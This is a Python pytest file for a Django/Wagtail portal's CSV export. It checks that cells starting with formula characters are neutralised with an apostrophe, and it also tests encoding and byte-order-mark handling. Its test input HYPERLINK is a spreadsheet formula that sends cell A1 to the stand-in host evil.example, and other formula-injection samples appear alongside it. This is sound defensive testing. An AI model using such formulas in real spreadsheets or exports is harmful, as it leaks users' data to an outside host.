"""Every CSV cell opens in a spreadsheet as the text or number it is, never a formula."""

import codecs
import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils.translation import gettext_lazy
from wagtail.admin.viewsets import viewsets
from wagtail.admin.viewsets.base import ViewSet

from portal.csv_export import (
    SafeSpreadsheetExportMixin,
    csv_cell,
    csv_response,
    write_csv,
)
from tests.factories import PerangkatDaerahFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+6281234567890", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_text_starting_with_a_formula_character_gets_an_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Jalan rusak di Stabat", "", "1+1=2", " =A1"])
def test_ordinary_text_is_unchanged(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize("number", [-5, 0, 42, -1.5, Decimal("-2.50")])
def test_real_numbers_stay_numbers_even_when_negative(number):
    assert csv_cell(number) is number


def test_none_is_an_empty_cell():
    assert csv_cell(None) == ""


def test_dates_and_lazy_translations_become_text_without_crashing():
    assert csv_cell(datetime.date(2025, 3, 1)) == "2025-03-01"
    assert csv_cell(gettext_lazy("Semua kecamatan")) == "Semua kecamatan"
    assert csv_cell(gettext_lazy("-nihil-")) == "'-nihil-"


def test_write_csv_neutralises_every_cell_and_keeps_numbers():
    text = write_csv(
        [[HYPERLINK, -3, Decimal("1.50"), None, datetime.date(2025, 1, 2)]],
        header=["=judul", "jumlah", "nilai", "kosong", "tanggal"],
    )
    assert list(csv.reader(io.StringIO(text))) == [
        ["'=judul", "jumlah", "nilai", "kosong", "tanggal"],
        ["'" + HYPERLINK, "-3", "1.50", "", "2025-01-02"],
    ]


def test_write_csv_without_a_header_writes_only_the_rows():
    assert write_csv([["a", 1]]).splitlines() == ["a,1"]


def test_csv_response_is_a_utf8_attachment_with_a_byte_order_mark():
    response = csv_response(write_csv([["Kabupaten Langkat", "=1"]]), "data.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="data.csv"'
    assert response.content.startswith(codecs.BOM_UTF8)
    assert response.content.decode("utf-8-sig") == "Kabupaten Langkat,'=1\r\n"


def test_csv_response_keeps_non_ascii_text_readable_for_excel():
    response = csv_response(write_csv([["Café Tanjung Pura", "Rp 12.500"]]), "x.csv")
    assert response.content == codecs.BOM_UTF8 + (
        "Café Tanjung Pura,Rp 12.500\r\n".encode()
    )


def test_csv_response_never_doubles_the_byte_order_mark():
    response = csv_response("\ufeffa,b\r\n", "x.csv")
    assert response.content == codecs.BOM_UTF8 + b"a,b\r\n"


@pytest.mark.django_db
def test_admin_listing_csv_export_has_a_bom_and_charset(admin_client):
    PerangkatDaerahFactory(nama="Dinas Uji Kafé Stabat")
    response = admin_client.get(reverse("perangkatdaerah:index"), {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = b"".join(response.streaming_content)
    assert content.startswith(codecs.BOM_UTF8)
    assert content.count(codecs.BOM_UTF8) == 1
    assert "Dinas Uji Kafé Stabat" in content.decode("utf-8-sig")


def test_every_admin_listing_with_an_export_neutralises_formulas():
    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if getattr(viewset, "list_export", ViewSet.UNDEFINED)
        not in (ViewSet.UNDEFINED, [])
    ]
    assert {viewset.url_namespace for viewset in exporting} >= {
        "laporan",
        "permohonan_informasi",
        "permohonan_layanan",
        "perangkatdaerah",
        "umkm",
    }
    unsafe = [
        viewset.url_namespace
        for viewset in exporting
        if not issubclass(viewset.index_view_class, SafeSpreadsheetExportMixin)
    ]
    assert unsafe == []
